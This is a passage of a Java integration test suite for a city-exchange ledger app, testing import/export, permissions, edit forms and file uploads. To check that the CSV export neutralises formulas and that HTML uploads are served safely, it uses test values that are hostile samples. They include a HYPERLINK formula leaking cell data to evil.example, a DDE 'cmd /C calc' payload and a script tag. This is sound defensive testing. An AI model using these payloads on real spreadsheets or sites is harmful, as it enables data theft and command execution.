        JsonNode dry = admin.importFile("a.csv", csv.getBytes(StandardCharsets.UTF_8), true, 200);
        assertThat(dry.get("added").asInt()).isEqualTo(2);
        assertThat(dry.get("added_rows")).hasSize(2);
        assertThat(activities()).isZero();
        admin.importFile("a.csv", csv.getBytes(StandardCharsets.UTF_8), false, 200);
        assertThat(activities()).isEqualTo(2);
        assertThat(db.sql("select tie_id from activity where place_id = :p")
                        .param("p", linqing)
                        .query(Long.class)
                        .single())
                .isEqualTo(linqingTie);
        assertThat(db.sql("select count(*) from audit_event where action = 'activity_import'")
                        .query(Integer.class)
                        .single())
                .isPositive();
    }

    @Test
    void anImportTellsItsTotalAndHowManyRowsItHasReadAndWritten() throws Exception {
        StringBuilder csv = new StringBuilder("类型,中方,外方,国家,方向,团长级别,人数,开始日期\n");
        for (int day = 1; day <= 25; day++) {
            csv.append("代表团,聊城市,大阪市,日本,来访,市长,")
                    .append(day)
                    .append(',')
                    .append(y)
                    .append("-03-")
                    .append(String.format("%02d", day))
                    .append('\n');
        }
        csv.append(",,,,,,,\n");
        byte[] bytes = csv.toString().getBytes(StandardCharsets.UTF_8);
        var importer = context.getBean(org.youcheng.io.ActivityImporter.class);
        assertThat(importer.countRows(() -> new java.io.ByteArrayInputStream(bytes), org.youcheng.io.Format.CSV))
                .as("the bar's total: rows with something in them")
                .isEqualTo(25);

        var checking = new org.youcheng.support.RecordedProgress();
        org.youcheng.io.ImportReport report = org.youcheng.security.LocalOperator.call(() -> importer.importFile(
                () -> new java.io.ByteArrayInputStream(bytes),
                org.youcheng.io.Format.CSV,
                "march.csv",
                true,
                checking));
        assertThat(report.rows()).isEqualTo(25);
        assertThat(checking.read)
                .as("one count per row, in order")
                .hasSize(25)
                .isSorted()
                .startsWith(1L)
                .endsWith(25L);
        assertThat(checking.written).as("a dry run writes nothing").isEmpty();

        var importing = new org.youcheng.support.RecordedProgress();
        org.youcheng.security.LocalOperator.call(() -> importer.importFile(
                () -> new java.io.ByteArrayInputStream(bytes),
                org.youcheng.io.Format.CSV,
                "march.csv",
                false,
                importing));
        assertThat(importing.written)
                .as("rows written, told after each batch")
                .isNotEmpty()
                .isSorted()
                .endsWith(25L);
    }

    @Test
    void aWorkbooksTotalCountsTheRowsOfEverySheet() throws Exception {
        byte[] workbook = LedgerApi.workbook(
                new LedgerApi.Sheet(
                        "代表团",
                        List.of("中方", "外方", "方向", "开始日期"),
                        List.of(List.of("聊城市", "大阪市", "来访", "2025-04-08"), List.of("聊城市", "大阪市", "出访", "2025-09-15"))),
                new LedgerApi.Sheet(
                        "活动",
                        List.of("中方", "外方", "活动类别", "开始日期"),
                        List.of(List.of("聊城市", "大阪市", "文化周", "2025-06-01"))));
        assertThat(context.getBean(org.youcheng.io.ActivityImporter.class)
                        .countRows(() -> new java.io.ByteArrayInputStream(workbook), org.youcheng.io.Format.XLSX))
                .isEqualTo(3);
    }

    @Test
    void anExportImportsAgainWithoutChangeAndIdenticalRowsAreCounted() throws Exception {
        admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201);
        admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201); // two alike
        admin.create(
                Map.of(
                        "type",
                        "agreement",
                        "place_id",
                        liaocheng,
                        "partners",
                        List.of(Map.of("organisation", "大阪商工会议所"), Map.of("place_id", osaka)),
                        "agreement_type",
                        "备忘录",
                        "started_on",
                        y + "-06-01"),
                201);
        admin.create(
                Map.of(
                        "type",
                        "project",
                        "place_id",
                        liaocheng,
                        "partners",
                        List.of(Map.of("place_id", osaka)),
                        "domain",
                        "education",
                        "status",
                        "ongoing",
                        "title",
                        "中日学校合作",
                        "amount",
                        "1000000",
                        "currency",
                        "CNY",
                        "started_on",
                        y + "-07-01"),
                201);
        admin.create(
                Map.of(
                        "type",
                        "award",
                        "place_id",
                        liaocheng,
                        "title",
                        "交流合作奖",
                        "granting_body",
                        "中国国际友好城市联合会",
                        "year",
                        y,
                        "recipient_kind",
                        "place",
                        "recipient",
                        "聊城市"),
                201);
        admin.create(delegation(linqing, paris, "sent", "vice mayor", 3, y + "-04-01"), 201);
        int recorded = activities();
        for (String format : List.of("csv", "xlsx")) {
            byte[] export = admin.download(get("/api/v1/places/{id}/activities/export", liaocheng)
                    .param("format", format)
                    .param("includeSubordinates", "true"));
            JsonNode dry = admin.importFile("export." + format, export, true, 200);
            assertThat(dry.get("added").asInt()).as(format).isZero();
            assertThat(dry.get("unchanged").asInt()).as(format).isEqualTo(recorded);
            JsonNode again = admin.importFile("export." + format, export, false, 200);
            assertThat(again.get("added").asInt()).as(format).isZero();
            assertThat(again.get("unchanged").asInt()).as(format).isEqualTo(recorded);
            assertThat(activities())
                    .as(format + ": importing the export changes nothing")
                    .isEqualTo(recorded);
        }
        // three rows like the two recorded delegations add one; a row that differs in one field is a new record
        String row = "delegation,聊城市,大阪市,日本,received,mayor,%d," + y + "-03-10\n";
        String csv = "type,place,partners,partner_country,direction,leader_level,head_count,started_on\n"
                + row.formatted(12) + row.formatted(12) + row.formatted(12) + row.formatted(13);
        JsonNode report = admin.importFile("more.csv", csv.getBytes(StandardCharsets.UTF_8), false, 200);
        assertThat(report.get("added").asInt()).isEqualTo(2);
        assertThat(report.get("unchanged").asInt()).isEqualTo(2);
        assertThat(activities()).isEqualTo(recorded + 2);
    }

    @Test
    void theCsvExportNeutralisesFormulasAndImportsAgainWithoutChange() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        admin.create(
                Map.of(
                        "type",
                        "project",
                        "place_id",
                        liaocheng,
                        "partners",
                        List.of(Map.of("organisation", "@SUM(1+1)"), Map.of("place_id", osaka)),
                        "domain",
                        "education",
                        "status",
                        "ongoing",
                        "title",
                        formula,
                        "started_on",
                        y + "-07-01"),
                201);
        admin.create(
                Map.of(
                        "type",
                        "award",
                        "place_id",
                        liaocheng,
                        "title",
                        "-2+3",
                        "granting_body",
                        "+cmd|' /C calc'!A0",
                        "year",
                        y,
                        "recipient_kind",
                        "place",
                        "recipient",
                        "聊城市"),
                201);
        int recorded = activities();

        byte[] export = admin.download(
                get("/api/v1/places/{id}/activities/export", liaocheng).param("format", "csv"));
        String text = new String(export, StandardCharsets.UTF_8);
        assertThat(text)
                .contains(
                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"",
                        "\"'@SUM(1+1)\"",
                        "\"'-2+3\"",
                        "\"'+cmd|' /C calc'!A0\"");
        try (var cells = org.apache.commons.csv.CSVFormat.RFC4180.parse(new java.io.StringReader(text))) {
            for (var record : cells) {
                for (String cell : record) {
                    assertThat(cell)
                            .as("no cell a spreadsheet would run")
                            .doesNotStartWith("=")
                            .doesNotStartWith("+")
                            .doesNotStartWith("@")
                            .doesNotStartWith("-");
                }
            }
        }

        JsonNode dry = admin.importFile("export.csv", export, true, 200);
        assertThat(dry.get("added").asInt()).isZero();
        assertThat(dry.get("unchanged").asInt()).isEqualTo(recorded);
        assertThat(db.sql("select count(*) from activity where title = ?")
                        .param(formula)
                        .query(Long.class)
                        .single())
                .isOne();
    }

    @Test
    void anEditorRecordsActivitiesOnlyForThePlacesInScope() throws Exception {
        LedgerApi editor = new LedgerApi(
                TestAccounts.withToken(context, TestAccounts.token(context, "liaocheng-editor", Role.EDITOR, "371500")),
                json);
        LedgerApi viewer = new LedgerApi(
                TestAccounts.withToken(context, TestAccounts.token(context, "a-viewer", Role.VIEWER)), json);
        long own = editor.create(delegation(liaocheng, osaka, "received", "mayor", 3, y + "-03-10"), 201)
                .get("id")
                .asLong();
        editor.create(delegation(linqing, paris, "received", "mayor", 3, y + "-03-10"), 201);
        editor.create(delegation(qingdao, osaka, "received", "mayor", 3, y + "-03-10"), 403);
        viewer.create(delegation(liaocheng, osaka, "received", "mayor", 3, y + "-03-10"), 403);
        long qingdaos = admin.create(delegation(qingdao, osaka, "received", "mayor", 3, y + "-03-10"), 201)
                .get("id")
                .asLong();
        Map<String, Object> moved = delegation(qingdao, osaka, "received", "mayor", 3, y + "-03-10");
        moved.put("version", 0);
        editor.call(
                put("/api/v1/activities/{id}", own)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(json.writeValueAsString(moved)),
                403);
        editor.call(delete("/api/v1/activities/{id}", qingdaos).param("version", "0"), 403);
        editor.call(
                multipart("/api/v1/activities/{id}/files", qingdaos)
                        .file(new MockMultipartFile(
                                "file", "a.pdf", "application/pdf", "%PDF-1".getBytes(StandardCharsets.US_ASCII))),
                403);
        String outOfScope = "type,place,partners,partner_country,direction,leader_level,head_count,started_on\n"
                + "delegation,聊城市,大阪市,日本,received,mayor,3," + y + "-01-05\n"
                + "delegation,青岛市,大阪市,日本,received,mayor,3," + y + "-01-05\n";
        int before = activities();
        editor.importFile("a.csv", outOfScope.getBytes(StandardCharsets.UTF_8), false, 403);
        assertThat(activities()).isEqualTo(before);
        assertThat(db.sql("select actor_name from audit_event where entity = 'activity' and entity_id = :id")
                        .param("id", own)
                        .query(String.class)
                        .single())
                .isEqualTo("liaocheng-editor");
    }

    @Test
    void thePagesShowTheLedgerAndTheFormRecordsAnActivity() throws Exception {
        admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201);
        org.springframework.test.web.servlet.MockMvc mvc =
                context.getBean(org.springframework.test.web.servlet.MockMvc.class);
        var signedIn = org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user(
                        "test-admin")
                .roles("ADMIN");
        var csrf = org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf();
        String ledger = page(
                mvc,
                get("/places/{id}/ledger", liaocheng)
                        .param("from", y + "-01-01")
                        .param("to", y + "-12-31"));
        assertThat(ledger).contains("聊城市的交流记录", "1批，12人次", "来访 · 市长 · 12人", "大阪市", "休眠的友好关系", "巴黎");
        assertThat(page(
                        mvc,
                        get("/places/{id}/ledger", liaocheng)
                                .param("lang", "en")
                                .param("from", y + "-01-01")
                                .param("to", y + "-12-31")))
                .contains("1 delegations, 12 person-times", "received · mayor · 12 people");
        assertThat(page(mvc, get("/places/{id}/ledger/section", liaocheng))).contains("巴黎", "来访 · 市长");
        assertThat(page(mvc, get("/ties/{id}/ledger", parisTie))).contains("休眠", "暂无交流记录");
        assertThat(page(mvc, get("/places/{id}", liaocheng))).contains("/places/" + liaocheng + "/ledger/section");
        assertThat(page(mvc, get("/ties/{id}", osakaTie))).contains("/ties/" + osakaTie + "/ledger");

        String form = page(
                mvc,
                get("/activities/new")
                        .param("place", String.valueOf(liaocheng))
                        .param("tie", String.valueOf(osakaTie))
                        .with(signedIn));
        assertThat(form).contains("name=\"_csrf\"", "name=\"partnerIds\"", "大阪市", "团长级别");
        int before = activities();
        String bad = mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post("/activities")
                        .with(csrf)
                        .with(signedIn)
                        .param("placeId", String.valueOf(liaocheng))
                        .param("tieId", String.valueOf(osakaTie))
                        .param("type", "delegation")
                        .param("direction", "sent")
                        .param("leader_level", "mayor")
                        .param("head_count", "-2")
                        .param("started_on", y + "-03-01")
                        .param("ended_on", y + "-02-01"))
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(bad).contains("id=\"head_count-error\"", "id=\"ended_on-error\"", "数值超出范围", "结束日期早于开始日期");
        assertThat(activities()).isEqualTo(before);
        MvcResult good = mvc.perform(
                        org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post("/activities")
                                .with(csrf)
                                .with(signedIn)
                                .param("placeId", String.valueOf(liaocheng))
                                .param("partnerIds", String.valueOf(shimonoseki))
                                .param("type", "delegation")
                                .param("direction", "sent")
                                .param("leader_level", "mayor")
                                .param("head_count", "4")
                                .param("started_on", y + "-04-01"))
                .andReturn();
        assertThat(good.getResponse().getStatus()).isEqualTo(302);
        String location = good.getResponse().getRedirectedUrl();
        assertThat(location).startsWith("/activities/");
        assertThat(activities()).isEqualTo(before + 1);
        assertThat(page(mvc, get(location))).contains("出访 · 市长 · 4人", "下关市");
    }

    @Test
    void theEditFormShowsTheActivityAndSavesItThroughTheLedger() throws Exception {
        Map<String, Object> body = delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10");
        body.put("partners", List.of(Map.of("place_id", osaka), Map.of("organisation", "大阪商工会议所")));
        body.put("purpose", "经贸洽谈");
        long id = admin.create(body, 201).get("id").asLong();
        String form = page(mvc(), get("/activities/{id}/edit", id).with(pageAdmin()));
        assertThat(form)
                .contains(
                        "修改交流记录",
                        "action=\"/activities/" + id + "\"",
                        "name=\"_csrf\"",
                        "name=\"version\" value=\"0\"",
                        "value=\"12\"",
                        "value=\"" + y + "-03-10\"",
                        "value=\"经贸洽谈\"",
                        "value=\"大阪商工会议所\"",
                        "value=\"" + osaka + "\" checked=\"checked\"",
                        "<option value=\"received\" selected=\"selected\"",
                        "<fieldset data-types=\"delegation\">",
                        "<fieldset data-types=\"award\">")
                .containsPattern("<script src=\"/js/activity-form-[0-9a-f]+\\.js\" defer>");
        assertThat(page(mvc(), get("/activities/{id}", id).with(pageAdmin())))
                .contains("href=\"/activities/" + id + "/edit\"", "id=\"delete-activity\"");

        // the foreign side moves from 大阪市 to 下关市: the activity moves to the tie with 下关市
        MvcResult saved = mvc().perform(post("/activities/{id}", id)
                        .with(csrf())
                        .with(pageAdmin())
                        .params(delegationForm(0, "14", y + "-03-10", y + "-03-12"))
                        .param("partnerIds", String.valueOf(shimonoseki))
                        .param("tieId", String.valueOf(osakaTie)))
                .andReturn();
        assertThat(saved.getResponse().getRedirectedUrl()).isEqualTo("/activities/" + id);
        assertThat(saved.getFlashMap().get("savedActivity")).isEqualTo(id);
        JsonNode a = admin.call(get("/api/v1/activities/{id}", id), 200);
        assertThat(a.get("version").asInt()).isEqualTo(1);
        assertThat(a.get("head_count").asInt()).isEqualTo(14);
        assertThat(a.get("ended_on").asText()).isEqualTo(y + "-03-12");
        assertThat(a.get("tie_id").asLong()).isEqualTo(shimonosekiTie);
        assertThat(a.get("purpose").isNull()).isTrue();
        assertThat(db.sql("select count(*) from audit_event where entity = 'activity' and entity_id = :id "
                                + "and action = 'activity_update'")
                        .param("id", id)
                        .query(Integer.class)
                        .single())
                .isEqualTo(1);
        assertThat(page(mvc(), get("/activities/{id}", id).flashAttr("savedActivity", id)))
                .contains("已保存这条交流记录。", "来访 · 市长 · 14人", "下关市")
                .doesNotContain("大阪商工会议所");

        // an activity naming a foreign place without a tie keeps it when edited
        Map<String, Object> noTie = delegation(linqing, osaka, "sent", "mayor", 3, y + "-06-01");
        long other = admin.create(noTie, 201).get("id").asLong();
        assertThat(page(mvc(), get("/activities/{id}/edit", other).with(pageAdmin())))
                .contains("大阪市", "value=\"" + osaka + "\" checked=\"checked\"");

        // deleting from the page says that the activity (not a tie) was deleted
        MvcResult deleted = mvc().perform(post("/activities/{id}/delete", other)
                        .param("version", "0")
                        .with(csrf())
                        .with(pageAdmin()))
                .andReturn();
        assertThat(deleted.getResponse().getRedirectedUrl()).isEqualTo("/places/" + linqing + "/ledger");
        assertThat(page(mvc(), get(deleted.getResponse().getRedirectedUrl()).flashAttr("deletedActivity", true)))
                .contains("已删除这条交流记录。")
                .doesNotContain("已删除这条友好关系");
    }

    @Test
    void aBadOrStaleEditChangesNothingAndSaysWhy() throws Exception {
        long id = admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201)
                .get("id")
                .asLong();
        String bad = mvc().perform(post("/activities/{id}", id)
                        .with(csrf())
                        .with(pageAdmin())
                        .params(delegationForm(0, "-2", y + "-03-10", y + "-02-01"))
                        .param("partnerIds", String.valueOf(osaka)))
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(bad)
                .contains(
                        "修改交流记录",
                        "有 2 处需要修改",
                        "id=\"head_count-error\"",
                        "数值超出范围",
                        "id=\"ended_on-error\"",
                        "结束日期早于开始日期",
                        "value=\"-2\"",
                        "name=\"version\" value=\"0\"");
        assertThat(bad.indexOf("id=\"head_count-error\""))
                .isGreaterThan(bad.indexOf("name=\"head_count\""))
                .isLessThan(bad.indexOf("name=\"purpose\""));
        assertThat(bad.indexOf("id=\"ended_on-error\""))
                .isGreaterThan(bad.indexOf("name=\"ended_on\""))
                .isLessThan(bad.indexOf("name=\"direction\""));
        JsonNode unchanged = admin.call(get("/api/v1/activities/{id}", id), 200);
        assertThat(unchanged.get("version").asInt()).isZero();
        assertThat(unchanged.get("head_count").asInt()).isEqualTo(12);

        // someone else saves first; the form read at version 0 is then refused with the conflict message
        mvc().perform(post("/activities/{id}", id)
                .with(csrf())
                .with(pageAdmin())
                .params(delegationForm(0, "13", y + "-03-10", ""))
                .param("partnerIds", String.valueOf(osaka)));
        String stale = mvc().perform(post("/activities/{id}", id)
                        .with(csrf())
                        .with(pageAdmin())
                        .params(delegationForm(0, "40", y + "-03-10", ""))
                        .param("partnerIds", String.valueOf(osaka)))
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(stale)
                .contains("id=\"form-problem\"", "刚被别人修改过，本次修改未保存", "href=\"/activities/" + id + "\"", "value=\"40\"");
        JsonNode after = admin.call(get("/api/v1/activities/{id}", id), 200);
        assertThat(after.get("version").asInt()).isEqualTo(1);
        assertThat(after.get("head_count").asInt()).isEqualTo(13);
        assertThat(mvc().perform(post("/activities/{id}", id)
                                .with(csrf())
                                .with(pageAdmin())
                                .param("lang", "en")
                                .params(delegationForm(0, "40", y + "-03-10", ""))
                                .param("partnerIds", String.valueOf(osaka)))
                        .andReturn()
                        .getResponse()
                        .getContentAsString(StandardCharsets.UTF_8))
                .contains("your changes were not saved");
    }

    @Test
    void filesAttachedOnTheActivityPageAreListedServedAndRemoved() throws Exception {
        long id = admin.create(delegation(liaocheng, osaka, "received", "mayor", 12, y + "-03-10"), 201)
                .get("id")
                .asLong();
        assertThat(page(mvc(), get("/activities/{id}", id).with(pageAdmin())))
                .contains(
                        "id=\"upload-form\"",
                        "enctype=\"multipart/form-data\"",
                        "action=\"/activities/" + id + "/files\"",
                        "name=\"_csrf\"",
                        "单个文件最大10兆");
        assertThat(page(mvc(), get("/activities/{id}", id))).doesNotContain("id=\"upload-form\"");
        byte[] pdf = "%PDF-1.4 the signed agreement".getBytes(StandardCharsets.US_ASCII);
        MvcResult up = mvc().perform(multipart("/activities/{id}/files", id)
                        .file(new MockMultipartFile("file", "合作协议.pdf", "text/plain", pdf))
                        .with(csrf())
                        .with(pageAdmin()))
                .andReturn();
        assertThat(up.getResponse().getRedirectedUrl()).isEqualTo("/activities/" + id);
        assertThat(up.getFlashMap().get("attached")).isEqualTo("合作协议.pdf");
        assertThat(page(mvc(), get("/activities/{id}", id).flashAttr("attached", "合作协议.pdf")))
                .contains("已上传附件“合作协议.pdf”。");
        JsonNode file =
                admin.call(get("/api/v1/activities/{id}", id), 200).get("files").get(0);
        assertThat(file.get("sha256").asText()).isEqualTo(LedgerService.sha256(pdf));
        String href = "/api/v1/activities/" + id + "/files/" + file.get("key").asText();
        String shown = page(mvc(), get("/activities/{id}", id).with(pageAdmin()));
        assertThat(shown).contains("href=\"" + href + "\"", "合作协议.pdf", "application/pdf");
        MvcResult served = mvc().perform(get(href).header("Authorization", "Bearer " + TestAccounts.admin(context)))
                .andReturn();
        assertThat(served.getResponse().getContentType()).isEqualTo("application/pdf");
        assertThat(served.getResponse().getContentAsByteArray()).isEqualTo(pdf);
        assertThat(db.sql("select count(*) from audit_event where action = 'activity_file_add' and entity_id = :f")
                        .param("f", fileId(file))
                        .query(Integer.class)
                        .single())
                .isEqualTo(1);

        // what the API would refuse, the page refuses: an empty file, one over the upload limit, no file at all
        for (MockMultipartFile refused : List.of(
                new MockMultipartFile("file", "空白.pdf", "application/pdf", new byte[0]),
                new MockMultipartFile("file", "扫描件.pdf", "application/pdf", new byte[10 * 1024 * 1024 + 1]),
                new MockMultipartFile("file", "", "application/octet-stream", new byte[0]))) {
            MvcResult r = mvc().perform(multipart("/activities/{id}/files", id)
                            .file(refused)
                            .with(csrf())
                            .with(pageAdmin()))
                    .andReturn();
            assertThat(r.getResponse().getRedirectedUrl()).isEqualTo("/activities/" + id);
            assertThat((String) r.getFlashMap().get("fileError"))
                    .as(refused.getOriginalFilename())
                    .isNotBlank();
        }
        assertThat(admin.call(get("/api/v1/activities/{id}", id), 200).get("files"))
                .hasSize(1);
        MvcResult empty = mvc().perform(multipart("/activities/{id}/files", id)
                        .file(new MockMultipartFile("file", "空白.pdf", "application/pdf", new byte[0]))
                        .with(csrf())
                        .with(pageAdmin()))
                .andReturn();
        assertThat(page(
                        mvc(),
                        get("/activities/{id}", id)
                                .with(pageAdmin())
                                .flashAttr("fileError", empty.getFlashMap().get("fileError"))))
                .contains("id=\"file-error\"", "文件“空白.pdf”是空的。");
        // a type it cannot name is kept, as the API keeps it, and served as bytes to download
        mvc().perform(multipart("/activities/{id}/files", id)
                .file(new MockMultipartFile(
                        "file", "x.html", "text/html", "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8)))
                .with(csrf())
                .with(pageAdmin()));
        JsonNode html =
                admin.call(get("/api/v1/activities/{id}", id), 200).get("files").get(1);
        assertThat(html.get("content_type").asText()).isEqualTo("application/octet-stream");

        long htmlId = fileId(html);
        MvcResult removed = mvc().perform(post(
                                "/activities/{id}/files/{f}/delete",
                                id,
                                html.get("key").asText())
                        .with(csrf())
                        .with(pageAdmin()))
                .andReturn();
        assertThat(removed.getResponse().getRedirectedUrl()).isEqualTo("/activities/" + id);
        assertThat(removed.getFlashMap().get("detached")).isEqualTo("x.html");
        assertThat(admin.call(get("/api/v1/activities/{id}", id), 200).get("files"))
                .hasSize(1);
        assertThat(db.sql("select count(*) from audit_event where action = 'activity_file_remove' "
                                + "and entity_id = :f")
                        .param("f", htmlId)
                        .query(Integer.class)
                        .single())
                .isEqualTo(1);
        mvc().perform(multipart("/activities/{id}/files", id)
                        .file(new MockMultipartFile("file", "a.pdf", "application/pdf", pdf))
                        .with(pageAdmin()))
                .andExpect(r -> assertThat(r.getResponse().getStatus())
                        .as("without the CSRF token")
                        .isEqualTo(403));
    }

    @Test
    void anEditorOfAnotherPlaceMayNotEditOrAttachFromThePages() throws Exception {
        TestAccounts.token(context, "liaocheng-editor", Role.EDITOR, "371500");
        var editor = org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user(
                        "liaocheng-editor")
                .roles("EDITOR");
        long qingdaos = admin.create(delegation(qingdao, osaka, "received", "mayor", 3, y + "-03-10"), 201)
                .get("id")
                .asLong();
        String fileKey = admin.call(
                        multipart("/api/v1/activities/{id}/files", qingdaos)
                                .file(new MockMultipartFile(
                                        "file",
                                        "a.pdf",
                                        "application/pdf",
                                        "%PDF-1".getBytes(StandardCharsets.US_ASCII))),
                        201)
                .get("key")
                .asText();
        long own = admin.create(delegation(liaocheng, osaka, "received", "mayor", 3, y + "-03-10"), 201)
                .get("id")
                .asLong();
        page(mvc(), get("/activities/{id}/edit", own).with(editor));
        int audited =
                db.sql("select count(*) from audit_event").query(Integer.class).single();

        List<org.springframework.test.web.servlet.RequestBuilder> refused = List.of(
                get("/activities/{id}/edit", qingdaos).with(editor),
                post("/activities/{id}", qingdaos)
                        .with(csrf())
                        .with(editor)
                        .params(delegationForm(0, "30", y + "-03-10", ""))
                        .param("partnerIds", String.valueOf(osaka)),
                post("/activities/{id}", qingdaos)
                        .with(csrf())
                        .with(editor)
                        .params(delegationForm(0, "-1", y + "-03-10", "")),
                multipart("/activities/{id}/files", qingdaos)
                        .file(new MockMultipartFile(
                                "file", "b.pdf", "application/pdf", "%PDF-1".getBytes(StandardCharsets.US_ASCII)))
                        .with(csrf())
                        .with(editor),
                post("/activities/{id}/files/{f}/delete", qingdaos, fileKey)
                        .with(csrf())
                        .with(editor));
        for (var request : refused) {
            assertThat(mvc().perform(request).andReturn().getResponse().getStatus())
                    .isEqualTo(403);
        }
        JsonNode a = admin.call(get("/api/v1/activities/{id}", qingdaos), 200);
        assertThat(a.get("version").asInt()).isZero();
        assertThat(a.get("head_count").asInt()).isEqualTo(3);
        assertThat(a.get("files")).hasSize(1);
        assertThat(db.sql("select count(*) from audit_event")
                        .query(Integer.class)
                        .single())
                .isEqualTo(audited);
    }

    /** A delegation of 聊城市 received at mayor's level, as the form sends it (no foreign side: add it). */
    static org.springframework.util.MultiValueMap<String, String> delegationForm(
            int version, String heads, String start, String end) {
        var form = new org.springframework.util.LinkedMultiValueMap<String, String>();
        form.add("version", String.valueOf(version));
        form.add("type", "delegation");
        form.add("direction", "received");
        form.add("leader_level", "mayor");
        form.add("head_count", heads);
        form.add("started_on", start);
        form.add("ended_on", end);
        form.add("purpose", "");
        form.add("event_kind", "");
        form.add("online", "");
        return form;
    }

    org.springframework.test.web.servlet.MockMvc mvc() {
        return context.getBean(org.springframework.test.web.servlet.MockMvc.class);
    }

    /** A page session of the tests' admin (the account exists: the services read it afresh). */
    static org.springframework.test.web.servlet.request.RequestPostProcessor pageAdmin() {
        return org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user(
                        "test-admin")
                .roles("ADMIN");
    }

    static String page(
            org.springframework.test.web.servlet.MockMvc mvc,
            org.springframework.test.web.servlet.RequestBuilder request)
            throws Exception {
        MvcResult r = mvc.perform(request).andReturn();
        String body = r.getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(r.getResponse().getStatus()).as(body).isEqualTo(200);
        return body;
    }

    /** The row number of a file the API names by its key. */
    private long fileId(JsonNode file) {
        return db.sql("select id from activity_file where file_key = :k")
                .param("k", file.get("key").asText())
                .query(Long.class)
                .single();
    }
}
